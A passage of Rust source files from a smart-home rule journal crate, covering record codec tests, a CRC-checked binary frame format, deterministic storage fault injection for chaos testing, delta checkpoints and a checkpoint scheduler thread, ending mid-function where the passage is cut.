    use homeguard_core::{Home, RuleStore};

    fn sample_state() -> HomeState {
        let store = RuleStore::shared();
        let mut home = Home::new(store);
        home.install_app(
            r#"
            definition(name: "OnApp")
            input "m", "capability.motionSensor"
            input "lamp", "capability.switch", title: "lamp"
            def installed() { subscribe(m, "motion.active", h) }
            def h(evt) { lamp.on() }
            "#,
            "OnApp",
            None,
        )
        .unwrap();
        home.export_state()
    }

    #[test]
    fn every_record_round_trips_through_the_payload_codec() {
        let state = sample_state();
        let records = [
            JournalRecord::HomeCreated {
                id: 7,
                state: state.clone(),
            },
            JournalRecord::HomesCreated {
                ids: vec![9, 10, 12],
                state: sample_state(),
            },
            JournalRecord::HomeImported { id: 8, state },
            JournalRecord::HomeRemoved { id: 7 },
            JournalRecord::InstallCommitted {
                id: 3,
                app: "OnApp".into(),
                replaces: Some("OldApp".into()),
                rules: None,
                threats: Vec::new(),
                config: Some("hgconf://OnApp?d.lamp=lamp-3".into()),
            },
            JournalRecord::UninstallCommitted {
                id: 3,
                app: "OnApp".into(),
            },
            JournalRecord::InstallSwept {
                app: "OnApp".into(),
                homes: vec![0, 6, 11],
                config: Some("hgconf://OnApp?d.lamp=lamp-9".into()),
            },
            JournalRecord::UpgradeSwept {
                app: "OnApp".into(),
                homes: vec![1, 2, 5],
            },
            JournalRecord::UninstallSwept {
                app: "OnApp".into(),
                homes: vec![4],
            },
            JournalRecord::PolicyChanged {
                id: 2,
                table: PolicyTable::default(),
            },
            JournalRecord::ConfigRecorded {
                id: 2,
                uri: "hgconf://OnApp?v.level=n%3A50".into(),
            },
            JournalRecord::StoreIngested {
                app: "OnApp".into(),
                source: "definition(name: \"OnApp\")".into(),
                as_name: true,
            },
            JournalRecord::StoreRetired {
                app: "OnApp".into(),
            },
        ];
        for record in records {
            let payload = record.to_payload();
            let back = JournalRecord::from_payload(&payload).expect("decode");
            assert_eq!(back, record, "round trip of `{}`", record.op());
            assert_eq!(back.op(), record.op());
        }
    }

    #[test]
    fn decoder_refuses_garbage_with_typed_errors() {
        assert!(matches!(
            JournalRecord::from_payload(b"\xFF\xFE"),
            Err(HgError::Journal(_))
        ));
        assert!(matches!(
            JournalRecord::from_payload(b"not json"),
            Err(HgError::Journal(_))
        ));
        assert!(matches!(
            JournalRecord::from_payload(b"{\"v\":1,\"op\":\"warp_core_breach\"}"),
            Err(HgError::Journal(_))
        ));
        assert!(matches!(
            JournalRecord::from_payload(b"{\"v\":99,\"op\":\"home_removed\",\"id\":1}"),
            Err(HgError::Journal(_))
        ));
        assert!(matches!(
            JournalRecord::from_payload(b"{\"v\":1,\"op\":\"home_removed\",\"id\":-4}"),
            Err(HgError::Journal(_))
        ));
    }

    #[test]
    fn dirty_bookkeeping_classifies_records() {
        let r = JournalRecord::UpgradeSwept {
            app: "A".into(),
            homes: vec![1, 9],
        };
        assert_eq!(r.dirtied_homes(), vec![1, 9]);
        assert!(!r.touches_store());
        let r = JournalRecord::StoreRetired { app: "A".into() };
        assert!(r.touches_store());
        assert!(r.dirtied_homes().is_empty());
        let r = JournalRecord::HomeRemoved { id: 4 };
        assert_eq!(r.removed_home(), Some(4));
        assert!(r.dirtied_homes().is_empty());
    }
}
