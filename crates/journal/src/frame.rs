//! The binary frame layer: how one journal record sits in a segment.
//!
//! A frame is `magic(4) ‖ payload_len(4, LE) ‖ crc32(4, LE) ‖ payload`,
//! where the payload is one UTF-8 JSON record document and the checksum
//! covers exactly the payload bytes. The reader is paranoid by design: a
//! short header, wrong magic, absurd length, truncated payload or checksum
//! mismatch all classify as a **torn tail** — the scan stops at the last
//! fully-verified frame and reports how many clean bytes precede the tear.
//! Opening a journal therefore *truncates* damage away instead of
//! panicking or propagating garbage into replay.

/// Frame magic: "HGJ1" — HomeGuard Journal, format 1.
pub const FRAME_MAGIC: [u8; 4] = *b"HGJ1";

/// Fixed frame header size in bytes (magic + length + checksum).
pub const FRAME_HEADER: usize = 12;

/// Upper bound on a single record payload. A length field above this is
/// treated as corruption, not an allocation request — a flipped bit in the
/// length must never make the reader try to slurp 4 GiB.
pub const MAX_PAYLOAD: usize = 64 * 1024 * 1024;

const CRC_TABLE: [u32; 256] = crc_table();

const fn crc_table() -> [u32; 256] {
    let mut table = [0u32; 256];
    let mut n = 0;
    while n < 256 {
        let mut c = n as u32;
        let mut k = 0;
        while k < 8 {
            c = if c & 1 != 0 {
                0xEDB8_8320 ^ (c >> 1)
            } else {
                c >> 1
            };
            k += 1;
        }
        table[n] = c;
        n += 1;
    }
    table
}

/// CRC-32 (IEEE 802.3 polynomial) over `data`.
pub fn crc32(data: &[u8]) -> u32 {
    let mut c = 0xFFFF_FFFFu32;
    for &b in data {
        c = CRC_TABLE[((c ^ b as u32) & 0xFF) as usize] ^ (c >> 8);
    }
    !c
}

/// Encodes one payload as a framed record, appendable to a segment.
pub fn encode_frame(payload: &[u8]) -> Vec<u8> {
    let mut frame = Vec::with_capacity(FRAME_HEADER + payload.len());
    frame.extend_from_slice(&FRAME_MAGIC);
    frame.extend_from_slice(&(payload.len() as u32).to_le_bytes());
    frame.extend_from_slice(&crc32(payload).to_le_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// The result of scanning a segment's bytes front to back.
#[derive(Debug)]
pub struct FrameScan {
    /// Each verified payload, in order.
    pub payloads: Vec<Vec<u8>>,
    /// Byte length of the verified prefix. Equal to the input length when
    /// the segment is clean; shorter when a torn tail follows.
    pub clean_len: usize,
    /// Why the scan stopped early, if it did.
    pub tear: Option<&'static str>,
}

impl FrameScan {
    /// Whether the segment decoded end to end without damage.
    pub fn is_clean(&self) -> bool {
        self.tear.is_none()
    }
}

/// Walks `bytes` frame by frame, verifying each checksum, and stops at the
/// first sign of damage. Never panics and never returns a partially
/// verified payload.
pub fn scan_frames(bytes: &[u8]) -> FrameScan {
    let mut payloads = Vec::new();
    let mut at = 0usize;
    let tear = loop {
        if at == bytes.len() {
            break None;
        }
        if bytes.len() - at < FRAME_HEADER {
            break Some("short frame header");
        }
        if bytes[at..at + 4] != FRAME_MAGIC {
            break Some("bad frame magic");
        }
        let len = u32::from_le_bytes(bytes[at + 4..at + 8].try_into().unwrap()) as usize;
        if len > MAX_PAYLOAD {
            break Some("implausible payload length");
        }
        let crc = u32::from_le_bytes(bytes[at + 8..at + 12].try_into().unwrap());
        let start = at + FRAME_HEADER;
        let Some(end) = start.checked_add(len).filter(|&e| e <= bytes.len()) else {
            break Some("truncated payload");
        };
        let payload = &bytes[start..end];
        if crc32(payload) != crc {
            break Some("checksum mismatch");
        }
        payloads.push(payload.to_vec());
        at = end;
    };
    FrameScan {
        payloads,
        clean_len: at,
        tear,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crc32_matches_reference_vectors() {
        // Classic IEEE CRC-32 check values.
        assert_eq!(crc32(b""), 0);
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(
            crc32(b"The quick brown fox jumps over the lazy dog"),
            0x414F_A339
        );
    }

    #[test]
    fn frames_round_trip() {
        let mut segment = Vec::new();
        for payload in [&b"{\"op\":\"a\"}"[..], b"", b"{\"op\":\"b\",\"n\":3}"] {
            segment.extend_from_slice(&encode_frame(payload));
        }
        let scan = scan_frames(&segment);
        assert!(scan.is_clean());
        assert_eq!(scan.clean_len, segment.len());
        assert_eq!(scan.payloads.len(), 3);
        assert_eq!(scan.payloads[2], b"{\"op\":\"b\",\"n\":3}");
    }

    #[test]
    fn every_truncation_point_keeps_the_verified_prefix() {
        let mut segment = Vec::new();
        let frames: Vec<Vec<u8>> = (0..4)
            .map(|n| encode_frame(format!("{{\"n\":{n}}}").as_bytes()))
            .collect();
        for f in &frames {
            segment.extend_from_slice(f);
        }
        let mut boundary = 0usize;
        let mut whole = 0usize;
        for cut in 0..=segment.len() {
            let scan = scan_frames(&segment[..cut]);
            // The verified prefix is always a whole number of frames.
            if cut == boundary + frames[whole.min(3)].len() && whole < 4 {
                boundary = cut;
                whole += 1;
            }
            assert_eq!(scan.payloads.len(), whole, "cut at {cut}");
            assert_eq!(scan.clean_len, boundary, "cut at {cut}");
            assert_eq!(scan.is_clean(), cut == boundary, "cut at {cut}");
        }
    }

    #[test]
    fn corruption_classifies_as_a_tear_never_a_panic() {
        let clean = encode_frame(b"{\"op\":\"x\"}");
        // Flip one payload byte → checksum mismatch.
        let mut flipped = clean.clone();
        let last = flipped.len() - 1;
        flipped[last] ^= 0x40;
        assert_eq!(scan_frames(&flipped).tear, Some("checksum mismatch"));
        // Wrong magic.
        let mut bad_magic = clean.clone();
        bad_magic[0] = b'X';
        assert_eq!(scan_frames(&bad_magic).tear, Some("bad frame magic"));
        // Absurd length field.
        let mut bad_len = clean.clone();
        bad_len[4..8].copy_from_slice(&u32::MAX.to_le_bytes());
        assert_eq!(
            scan_frames(&bad_len).tear,
            Some("implausible payload length")
        );
        // Damage after a clean frame keeps the clean one.
        let mut tail = clean.clone();
        tail.extend_from_slice(b"garbage");
        let scan = scan_frames(&tail);
        assert_eq!(scan.payloads.len(), 1);
        assert_eq!(scan.clean_len, clean.len());
        assert!(!scan.is_clean());
    }
}
