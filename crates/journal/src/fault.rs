//! Deterministic I/O fault injection for chaos testing.
//!
//! A [`FaultBackend`] wraps any [`JournalBackend`] and injects scripted
//! failures from a [`FaultPlan`]: transient errors, permanent errors,
//! short (partial) writes, and a disk-full onset — each pinned to an
//! exact **operation count**, so a run is reproducible from a seed. Ops
//! are counted over the durability-relevant calls only (`append_segment`,
//! `truncate_segment`, `remove_segment`, `write_checkpoint`,
//! `remove_checkpoint`, `sync`); reads pass through untouched and
//! uncounted, so recovery scans never perturb a plan.
//!
//! With no plan armed the wrapper is a **pure pass-through**: every call
//! forwards verbatim, so a fault-free run over a `FaultBackend` is
//! bit-identical to the same run over the raw backend.
//!
//! Plans are seeded with the same SplitMix64 generator
//! `hg_bench::fleet_gen` uses, so `FaultPlan::seeded(seed, ..)` is the
//! chaos-harness twin of the fleet generator's `GenRng`.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex, PoisonError};

use crate::backend::{BackendError, JournalBackend};

/// One scripted fault, pinned to an operation index by a [`FaultPlan`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FaultKind {
    /// Fail this one operation with a transient (retryable) error.
    Transient,
    /// Fail this one operation with a permanent error.
    Permanent,
    /// On an append: persist roughly half the bytes, then fail transient
    /// — a torn write the journal must repair before retrying. On any
    /// other operation this degrades to [`FaultKind::Transient`].
    ShortWrite,
    /// From this operation onward, every write fails permanently with a
    /// disk-full error until [`FaultBackend::disarm`] simulates the
    /// operator recovering the device.
    DiskFull,
}

/// Deterministic SplitMix64 — the same mix `hg_bench::fleet_gen::GenRng`
/// uses, so fault plans and fleet populations share one seeding idiom.
struct FaultRng {
    state: u64,
}

impl FaultRng {
    fn new(seed: u64) -> FaultRng {
        FaultRng {
            state: seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0xd1b5_4a32_d192_ed03,
        }
    }

    fn draw(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn range(&mut self, n: u64) -> u64 {
        self.draw() % n.max(1)
    }
}

/// A script of faults keyed by backend operation index. Empty plans
/// inject nothing.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FaultPlan {
    faults: BTreeMap<u64, FaultKind>,
}

impl FaultPlan {
    /// An empty plan (pure pass-through until faults are added).
    pub fn new() -> FaultPlan {
        FaultPlan::default()
    }

    /// Pins `kind` to operation index `op` (0-based over write ops and
    /// syncs). Later entries at the same index overwrite earlier ones.
    pub fn at(mut self, op: u64, kind: FaultKind) -> FaultPlan {
        self.faults.insert(op, kind);
        self
    }

    /// A reproducible random plan: `faults` faults at distinct-ish
    /// operation indices in `[0, horizon)`, kind-weighted toward
    /// survivable transients (5/10 transient, 2/10 short write, 2/10
    /// permanent, 1/10 disk-full onset).
    pub fn seeded(seed: u64, horizon: u64, faults: u32) -> FaultPlan {
        let mut rng = FaultRng::new(seed);
        let mut plan = FaultPlan::new();
        for _ in 0..faults {
            let op = rng.range(horizon);
            let kind = match rng.range(10) {
                0..=4 => FaultKind::Transient,
                5..=6 => FaultKind::ShortWrite,
                7..=8 => FaultKind::Permanent,
                _ => FaultKind::DiskFull,
            };
            plan.faults.insert(op, kind);
        }
        plan
    }

    /// Number of scripted faults.
    pub fn len(&self) -> usize {
        self.faults.len()
    }

    /// Whether the plan injects nothing.
    pub fn is_empty(&self) -> bool {
        self.faults.is_empty()
    }

    /// Whether any scripted fault is permanent or a disk-full onset —
    /// i.e. whether this plan can quarantine a journal with default
    /// retry settings.
    pub fn has_permanent(&self) -> bool {
        self.faults
            .values()
            .any(|k| matches!(k, FaultKind::Permanent | FaultKind::DiskFull))
    }
}

#[derive(Default)]
struct FaultState {
    plan: FaultPlan,
    ops: u64,
    full_since: Option<u64>,
    injected: u64,
}

enum Verdict {
    Pass,
    ShortWrite,
}

/// A fault-injecting wrapper around any [`JournalBackend`]. Clones share
/// state (the handle is an `Arc`), so a test keeps a controller handle
/// while the journal owns the boxed trait object.
#[derive(Clone)]
pub struct FaultBackend {
    inner: Arc<dyn JournalBackend>,
    state: Arc<Mutex<FaultState>>,
}

impl FaultBackend {
    /// Wraps `inner` with no plan armed (pure pass-through).
    pub fn new(inner: impl JournalBackend + 'static) -> FaultBackend {
        FaultBackend {
            inner: Arc::new(inner),
            state: Arc::new(Mutex::new(FaultState::default())),
        }
    }

    /// Wraps `inner` with `plan` armed.
    pub fn with_plan(inner: impl JournalBackend + 'static, plan: FaultPlan) -> FaultBackend {
        let backend = FaultBackend::new(inner);
        backend.arm(plan);
        backend
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, FaultState> {
        self.state.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Replaces the armed plan. The operation counter keeps running.
    pub fn arm(&self, plan: FaultPlan) {
        self.lock().plan = plan;
    }

    /// Clears the plan and any disk-full onset — "the operator replaced
    /// the disk". Subsequent operations forward verbatim.
    pub fn disarm(&self) {
        let mut st = self.lock();
        st.plan = FaultPlan::new();
        st.full_since = None;
    }

    /// Write operations (and syncs) seen so far.
    pub fn ops(&self) -> u64 {
        self.lock().ops
    }

    /// Faults injected so far.
    pub fn injected(&self) -> u64 {
        self.lock().injected
    }

    /// Consumes one op index and decides this operation's fate.
    fn check(&self, op_name: &str) -> Result<Verdict, BackendError> {
        let mut st = self.lock();
        let op = st.ops;
        st.ops += 1;
        if let Some(onset) = st.full_since {
            st.injected += 1;
            return Err(BackendError::permanent(format!(
                "injected: disk full since op {onset} ({op_name} op {op})"
            )));
        }
        match st.plan.faults.get(&op).copied() {
            None => Ok(Verdict::Pass),
            Some(FaultKind::Transient) => {
                st.injected += 1;
                Err(BackendError::transient(format!(
                    "injected: transient I/O error ({op_name} op {op})"
                )))
            }
            Some(FaultKind::Permanent) => {
                st.injected += 1;
                Err(BackendError::permanent(format!(
                    "injected: permanent I/O error ({op_name} op {op})"
                )))
            }
            Some(FaultKind::ShortWrite) => {
                st.injected += 1;
                Ok(Verdict::ShortWrite)
            }
            Some(FaultKind::DiskFull) => {
                st.injected += 1;
                st.full_since = Some(op);
                Err(BackendError::permanent(format!(
                    "injected: disk full ({op_name} op {op})"
                )))
            }
        }
    }

    /// [`check`](Self::check) for non-append writes, where a short write
    /// has no byte stream to cut and degrades to a transient failure.
    fn gate(&self, op_name: &str) -> Result<(), BackendError> {
        match self.check(op_name)? {
            Verdict::Pass => Ok(()),
            Verdict::ShortWrite => Err(BackendError::transient(format!(
                "injected: transient I/O error (short write degraded, {op_name})"
            ))),
        }
    }
}

impl JournalBackend for FaultBackend {
    fn segments(&self) -> Result<Vec<u64>, BackendError> {
        self.inner.segments()
    }

    fn read_segment(&self, start: u64) -> Result<Vec<u8>, BackendError> {
        self.inner.read_segment(start)
    }

    fn append_segment(&self, start: u64, bytes: &[u8]) -> Result<(), BackendError> {
        match self.check("append_segment")? {
            Verdict::Pass => self.inner.append_segment(start, bytes),
            Verdict::ShortWrite => {
                let keep = bytes.len() / 2;
                self.inner.append_segment(start, &bytes[..keep])?;
                Err(BackendError::transient(format!(
                    "injected: short write ({keep} of {} bytes hit segment {start})",
                    bytes.len()
                )))
            }
        }
    }

    fn truncate_segment(&self, start: u64, len: u64) -> Result<(), BackendError> {
        self.gate("truncate_segment")?;
        self.inner.truncate_segment(start, len)
    }

    fn remove_segment(&self, start: u64) -> Result<(), BackendError> {
        self.gate("remove_segment")?;
        self.inner.remove_segment(start)
    }

    fn checkpoints(&self) -> Result<Vec<u64>, BackendError> {
        self.inner.checkpoints()
    }

    fn read_checkpoint(&self, offset: u64) -> Result<String, BackendError> {
        self.inner.read_checkpoint(offset)
    }

    fn write_checkpoint(&self, offset: u64, text: &str) -> Result<(), BackendError> {
        self.gate("write_checkpoint")?;
        self.inner.write_checkpoint(offset, text)
    }

    fn remove_checkpoint(&self, offset: u64) -> Result<(), BackendError> {
        self.gate("remove_checkpoint")?;
        self.inner.remove_checkpoint(offset)
    }

    fn sync(&self) -> Result<(), BackendError> {
        self.gate("sync")?;
        self.inner.sync()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::backend::MemBackend;

    #[test]
    fn unarmed_backend_is_a_pure_pass_through() {
        let mem = MemBackend::new();
        let fault = FaultBackend::new(mem.clone());
        fault.append_segment(0, b"abc").unwrap();
        fault.write_checkpoint(1, "{}").unwrap();
        fault.sync().unwrap();
        assert_eq!(mem.read_segment(0).unwrap(), b"abc");
        assert_eq!(fault.ops(), 3);
        assert_eq!(fault.injected(), 0);
    }

    #[test]
    fn scripted_faults_fire_at_exact_op_counts() {
        let plan = FaultPlan::new()
            .at(1, FaultKind::Transient)
            .at(3, FaultKind::Permanent);
        let fault = FaultBackend::with_plan(MemBackend::new(), plan);
        fault.append_segment(0, b"a").unwrap(); // op 0
        let e = fault.append_segment(0, b"b").unwrap_err(); // op 1
        assert!(e.transient);
        fault.append_segment(0, b"c").unwrap(); // op 2
        let e = fault.append_segment(0, b"d").unwrap_err(); // op 3
        assert!(!e.transient);
        assert_eq!(fault.injected(), 2);
    }

    #[test]
    fn short_write_persists_a_prefix_then_fails_transient() {
        let mem = MemBackend::new();
        let plan = FaultPlan::new().at(0, FaultKind::ShortWrite);
        let fault = FaultBackend::with_plan(mem.clone(), plan);
        let e = fault.append_segment(0, b"0123456789").unwrap_err();
        assert!(e.transient);
        assert_eq!(mem.read_segment(0).unwrap(), b"01234");
        // Reads are uncounted and never faulted.
        assert_eq!(fault.read_segment(0).unwrap(), b"01234");
        assert_eq!(fault.ops(), 1);
    }

    #[test]
    fn disk_full_persists_until_disarmed() {
        let plan = FaultPlan::new().at(1, FaultKind::DiskFull);
        let fault = FaultBackend::with_plan(MemBackend::new(), plan);
        fault.append_segment(0, b"a").unwrap();
        assert!(!fault.append_segment(0, b"b").unwrap_err().transient);
        assert!(!fault.sync().unwrap_err().transient);
        assert!(!fault.write_checkpoint(0, "{}").unwrap_err().transient);
        fault.disarm();
        fault.append_segment(0, b"b").unwrap();
        fault.sync().unwrap();
    }

    #[test]
    fn seeded_plans_are_reproducible_and_seed_sensitive() {
        let a = FaultPlan::seeded(7, 100, 8);
        let b = FaultPlan::seeded(7, 100, 8);
        let c = FaultPlan::seeded(8, 100, 8);
        assert_eq!(a, b);
        assert_ne!(a, c);
        assert!(!a.is_empty() && a.len() <= 8);
    }
}
