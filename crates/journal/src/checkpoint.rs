//! Delta checkpoints and their materialization into a full fleet image.
//!
//! A checkpoint freezes the fleet's ground truth **as of a journal
//! offset**: the first one in a chain is always full (store + every
//! home); later ones are deltas carrying only the homes dirtied — and the
//! store, if touched — since the previous checkpoint, plus the ids of
//! homes removed. Folding the chain left to right
//! ([`materialize`]) reproduces the complete image the newest checkpoint
//! covers, and replaying journal records at offsets `>= offset` on top of
//! it reproduces the live fleet.

use hg_persist::codec::{
    home_state_from_json, home_state_to_json, store_state_from_json, store_state_to_json,
};
use hg_rules::json::Json;
use homeguard_core::{HgError, HomeState, StoreState};
use std::collections::BTreeMap;

use crate::record::journal_err;

/// Checkpoint document format version, checked on decode.
pub const CHECKPOINT_VERSION: i64 = 1;

/// One checkpoint document: the fleet's ground truth (full) or the
/// dirtied part of it (delta) as of a journal offset.
#[derive(Debug, Clone)]
pub struct Checkpoint {
    /// Journal offset this checkpoint covers: every record at an offset
    /// `< offset` is folded in; replay resumes at `offset`.
    pub offset: u64,
    /// Whether this is a full image (chain base) or a delta.
    pub full: bool,
    /// Fleet shard count (registry routing parameter).
    pub shards: usize,
    /// The fleet's next home id.
    pub next_id: u64,
    /// The shared rule store's state; always present when `full`, present
    /// in a delta only when store records landed since the previous
    /// checkpoint.
    pub store: Option<StoreState>,
    /// `(raw id, ground truth)` for every home covered: all homes when
    /// `full`, dirtied homes otherwise.
    pub homes: Vec<(u64, HomeState)>,
    /// Raw ids of homes removed since the previous checkpoint.
    pub removed: Vec<u64>,
}

impl Checkpoint {
    /// Serializes to the checkpoint document text.
    pub fn to_text(&self) -> String {
        Json::obj([
            ("version", Json::Num(CHECKPOINT_VERSION)),
            ("kind", Json::str("journal-checkpoint")),
            ("offset", Json::Num(self.offset as i64)),
            ("full", Json::Bool(self.full)),
            ("shards", Json::Num(self.shards as i64)),
            ("nextId", Json::Num(self.next_id as i64)),
            (
                "store",
                self.store
                    .as_ref()
                    .map(store_state_to_json)
                    .unwrap_or(Json::Null),
            ),
            (
                "homes",
                Json::Arr(
                    self.homes
                        .iter()
                        .map(|(id, state)| {
                            Json::obj([
                                ("id", Json::Num(*id as i64)),
                                ("state", home_state_to_json(state)),
                            ])
                        })
                        .collect(),
                ),
            ),
            (
                "removed",
                Json::Arr(self.removed.iter().map(|&r| Json::Num(r as i64)).collect()),
            ),
        ])
        .to_text()
    }

    /// Decodes a checkpoint document.
    pub fn from_text(text: &str) -> Result<Checkpoint, HgError> {
        let j = Json::parse(text).map_err(|e| journal_err(format!("checkpoint parse: {e}")))?;
        if j.get("version").and_then(Json::as_num) != Some(CHECKPOINT_VERSION) {
            return Err(journal_err("unsupported checkpoint version"));
        }
        if j.get("kind").and_then(Json::as_str) != Some("journal-checkpoint") {
            return Err(journal_err("not a journal checkpoint document"));
        }
        let num = |field: &str| -> Result<i64, HgError> {
            let n = j
                .get(field)
                .and_then(Json::as_num)
                .ok_or_else(|| journal_err(format!("checkpoint missing `{field}`")))?;
            if n < 0 {
                return Err(journal_err(format!("negative checkpoint `{field}`")));
            }
            Ok(n)
        };
        let full = match j.get("full") {
            Some(Json::Bool(b)) => *b,
            _ => return Err(journal_err("checkpoint missing `full`")),
        };
        let store = match j.get("store") {
            None | Some(Json::Null) => None,
            Some(s) => Some(store_state_from_json(s).map_err(|e| journal_err(e.to_string()))?),
        };
        if full && store.is_none() {
            return Err(journal_err("full checkpoint missing store state"));
        }
        let mut homes = Vec::new();
        for entry in j
            .get("homes")
            .and_then(Json::as_arr)
            .ok_or_else(|| journal_err("checkpoint missing `homes`"))?
        {
            let id = entry
                .get("id")
                .and_then(Json::as_num)
                .filter(|&n| n >= 0)
                .ok_or_else(|| journal_err("bad home id in checkpoint"))?;
            let state = home_state_from_json(
                entry
                    .get("state")
                    .ok_or_else(|| journal_err("checkpoint home missing state"))?,
            )
            .map_err(|e| journal_err(e.to_string()))?;
            homes.push((id as u64, state));
        }
        let removed = j
            .get("removed")
            .and_then(Json::as_arr)
            .ok_or_else(|| journal_err("checkpoint missing `removed`"))?
            .iter()
            .map(|r| {
                r.as_num()
                    .filter(|&n| n >= 0)
                    .map(|n| n as u64)
                    .ok_or_else(|| journal_err("bad removed id in checkpoint"))
            })
            .collect::<Result<_, _>>()?;
        let shards = num("shards")? as usize;
        if shards == 0 {
            return Err(journal_err("checkpoint with zero shards"));
        }
        Ok(Checkpoint {
            offset: num("offset")? as u64,
            full,
            shards,
            next_id: num("nextId")? as u64,
            store,
            homes,
            removed,
        })
    }
}

/// A checkpoint chain folded into one complete fleet image.
#[derive(Debug, Clone)]
pub struct MaterializedFleet {
    /// Journal offset replay resumes from.
    pub offset: u64,
    /// Fleet shard count.
    pub shards: usize,
    /// The fleet's next home id.
    pub next_id: u64,
    /// The shared rule store's state.
    pub store: StoreState,
    /// Every live home's ground truth, keyed by raw id.
    pub homes: BTreeMap<u64, HomeState>,
}

/// Folds a checkpoint chain (ascending offsets, first one full) into the
/// complete image as of the newest checkpoint's offset.
pub fn materialize(chain: &[Checkpoint]) -> Result<MaterializedFleet, HgError> {
    let base = chain
        .first()
        .ok_or_else(|| journal_err("empty checkpoint chain"))?;
    if !base.full {
        return Err(journal_err(format!(
            "checkpoint chain does not start full (base covers offset {})",
            base.offset
        )));
    }
    let mut image = MaterializedFleet {
        offset: base.offset,
        shards: base.shards,
        next_id: base.next_id,
        store: base.store.clone().expect("full checkpoint carries a store"),
        homes: BTreeMap::new(),
    };
    for ckpt in chain {
        if ckpt.offset < image.offset {
            return Err(journal_err(format!(
                "checkpoint chain offsets regress at {}",
                ckpt.offset
            )));
        }
        if ckpt.full {
            image.homes.clear();
        }
        if let Some(store) = &ckpt.store {
            image.store = store.clone();
        }
        for (id, state) in &ckpt.homes {
            image.homes.insert(*id, state.clone());
        }
        for id in &ckpt.removed {
            image.homes.remove(id);
        }
        image.offset = ckpt.offset;
        image.shards = ckpt.shards;
        image.next_id = ckpt.next_id;
    }
    Ok(image)
}

#[cfg(test)]
mod tests {
    use super::*;
    use homeguard_core::{Home, RuleStore};
    use std::sync::Arc;

    fn state_with(apps: &[(&str, &str)]) -> (HomeState, StoreState, Arc<RuleStore>) {
        let store = RuleStore::shared();
        let mut home = Home::new(store.clone());
        for (name, source) in apps {
            home.install_app(source, name, None).unwrap();
        }
        (home.export_state(), store.export_state(), store)
    }

    const ON_APP: &str = r#"
        definition(name: "OnApp")
        input "m", "capability.motionSensor"
        input "lamp", "capability.switch", title: "lamp"
        def installed() { subscribe(m, "motion.active", h) }
        def h(evt) { lamp.on() }
    "#;

    #[test]
    fn checkpoints_round_trip() {
        let (state, store, _) = state_with(&[("OnApp", ON_APP)]);
        let ckpt = Checkpoint {
            offset: 12,
            full: true,
            shards: 4,
            next_id: 9,
            store: Some(store),
            homes: vec![(3, state)],
            removed: vec![7],
        };
        let back = Checkpoint::from_text(&ckpt.to_text()).unwrap();
        assert_eq!(back.offset, 12);
        assert!(back.full);
        assert_eq!(back.shards, 4);
        assert_eq!(back.next_id, 9);
        assert_eq!(back.removed, vec![7]);
        assert_eq!(back.homes.len(), 1);
        assert_eq!(back.homes[0].0, 3);
        assert_eq!(back.homes[0].1, ckpt.homes[0].1);
        // Document-level refusals.
        assert!(Checkpoint::from_text("garbage").is_err());
        assert!(Checkpoint::from_text("{\"version\":1,\"kind\":\"store\"}").is_err());
    }

    #[test]
    fn materialize_folds_deltas_over_the_full_base() {
        let (state_a, store, shared) = state_with(&[("OnApp", ON_APP)]);
        let mut home_b = Home::new(shared);
        let state_b0 = home_b.export_state();
        home_b.install_app(ON_APP, "OnApp", None).unwrap();
        let state_b1 = home_b.export_state();
        let chain = [
            Checkpoint {
                offset: 2,
                full: true,
                shards: 2,
                next_id: 2,
                store: Some(store.clone()),
                homes: vec![(0, state_a.clone()), (1, state_b0)],
                removed: Vec::new(),
            },
            Checkpoint {
                offset: 5,
                full: false,
                shards: 2,
                next_id: 3,
                store: None,
                homes: vec![(1, state_b1.clone()), (2, state_a.clone())],
                removed: vec![0],
            },
        ];
        let image = materialize(&chain).unwrap();
        assert_eq!(image.offset, 5);
        assert_eq!(image.next_id, 3);
        assert_eq!(
            image.homes.keys().copied().collect::<Vec<_>>(),
            vec![1, 2],
            "home 0 removed, homes 1-2 live"
        );
        assert_eq!(image.homes[&1], state_b1);
        // A chain that does not start full is refused.
        assert!(materialize(&chain[1..]).is_err());
        assert!(materialize(&[]).is_err());
    }
}
