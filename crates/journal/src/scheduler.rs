//! A background checkpoint scheduler: runs a caller-supplied tick (the
//! fleet's checkpoint closure) at a fixed interval on one worker thread,
//! with a prompt, condvar-based stop.

use std::sync::{Arc, Condvar, Mutex, PoisonError};
use std::thread::{self, JoinHandle};
use std::time::Duration;

/// A stop-on-drop background thread driving periodic checkpoints.
pub struct CheckpointScheduler {
    stop: Arc<(Mutex<bool>, Condvar)>,
    handle: Option<JoinHandle<()>>,
}

impl CheckpointScheduler {
    /// Spawns the scheduler: `tick` runs every `interval` until
    /// [`stop`](CheckpointScheduler::stop) (or drop). The first tick
    /// fires after one full interval, not immediately.
    pub fn start(
        interval: Duration,
        mut tick: impl FnMut() + Send + 'static,
    ) -> CheckpointScheduler {
        let stop = Arc::new((Mutex::new(false), Condvar::new()));
        let shared = stop.clone();
        let handle = thread::Builder::new()
            .name("hg-checkpointer".into())
            .spawn(move || {
                let (flag, signal) = &*shared;
                let mut stopped = flag.lock().unwrap_or_else(PoisonError::into_inner);
                loop {
                    let (next, timeout) = signal
                        .wait_timeout(stopped, interval)
                        .unwrap_or_else(PoisonError::into_inner);
                    stopped = next;
                    if *stopped {
                        return;
                    }
                    if timeout.timed_out() {
                        drop(stopped);
                        tick();
                        stopped = flag.lock().unwrap_or_else(PoisonError::into_inner);
                        if *stopped {
                            return;
                        }
                    }
                }
            })
            .expect("spawn checkpointer thread");
        CheckpointScheduler {
            stop,
            handle: Some(handle),
        }
    }

    /// Stops the scheduler and joins the worker. Idempotent via drop.
    pub fn stop(mut self) {
        self.halt();
    }

    fn halt(&mut self) {
